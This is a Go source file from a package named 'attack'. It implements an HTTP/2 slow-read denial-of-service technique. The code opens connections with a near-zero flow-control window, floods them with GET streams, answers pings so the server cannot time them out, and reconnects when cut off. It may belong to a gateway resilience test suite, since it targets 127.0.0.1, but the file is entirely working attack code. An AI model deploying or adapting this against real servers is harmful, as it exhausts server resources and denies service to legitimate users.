package attack

import (
	"bufio"
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"
)

// Frame types and flags of HTTP/2 (RFC 9113, section 6).
const (
	frameHeaders  = 1
	frameSettings = 4
	framePing     = 6
	flagAck       = 1
	flagEndStream = 1
	flagEndHeader = 4
)

// unread sends n GETs on one HTTP/2 connection whose flow control window is zero, so that the
// gateway can send the heads of the answers and no byte of a body. It answers pings to keep the
// connection open, and begins anew if the connection ends.
func (t *Target) unread(ctx context.Context, n int, path string, headers ...string) {
	again(ctx, func() {
		conn := t.raw(ctx, 0, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
		if conn == nil {
			pause(ctx, 100*time.Millisecond)
			return
		}
		defer conn.Close()
		const initialWindowSize = 4
		window := []byte{0, initialWindowSize, 0, 0, 0, 0}
		if writeFrame(conn, frameSettings, 0, 0, window) != nil {
			return
		}
		go func() {
			block := headerBlock(append([]string{":method", "GET", ":scheme", "http",
				":authority", "127.0.0.1", ":path", path}, headers...)...)
			for i := range n {
				err := writeFrame(conn, frameHeaders, flagEndStream|flagEndHeader, uint32(2*i+1),
					block)
				if err != nil {
					return
				}
				if i%50 == 49 {
					pause(ctx, 5*time.Millisecond)
				}
			}
		}()
		answerPings(conn)
		pause(ctx, 100*time.Millisecond)
	})
}

// answerPings reads frames until the connection ends, and answers pings and settings.
func answerPings(conn net.Conn) {
	r := bufio.NewReader(conn)
	head := make([]byte, 9)
	for {
		if _, err := io.ReadFull(r, head); err != nil {
			return
		}
		size := int(head[0])<<16 | int(head[1])<<8 | int(head[2])
		payload := make([]byte, size)
		if _, err := io.ReadFull(r, payload); err != nil {
			return
		}
		kind, flags := head[3], head[4]
		if (kind == framePing || kind == frameSettings) && flags&flagAck == 0 {
			if kind == frameSettings {
				payload = nil
			}
			if writeFrame(conn, kind, flagAck, 0, payload) != nil {
				return
			}
		}
	}
}

// writeFrame writes a frame with one call, so that the frames of two goroutines do not mix.
func writeFrame(w io.Writer, kind, flags byte, stream uint32, payload []byte) error {
	n := len(payload)
	frame := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}
	frame = binary.BigEndian.AppendUint32(frame, stream)
	_, err := w.Write(append(frame, payload...))
	return err
}

// headerBlock encodes pairs of names and values as literals that are not indexed (RFC 7541, section
// 6.2.2).
func headerBlock(fields ...string) []byte {
	var block []byte
	for i := 0; i < len(fields); i += 2 {
		block = append(block, 0)
		block = appendString(appendString(block, fields[i]), fields[i+1])
	}
	return block
}

// appendString encodes a string with its length as an integer with a prefix of seven bits.
func appendString(to []byte, s string) []byte {
	if n := len(s); n < 127 {
		to = append(to, byte(n))
	} else {
		to = binary.AppendUvarint(append(to, 127), uint64(n-127))
	}
	return append(to, s...)
}
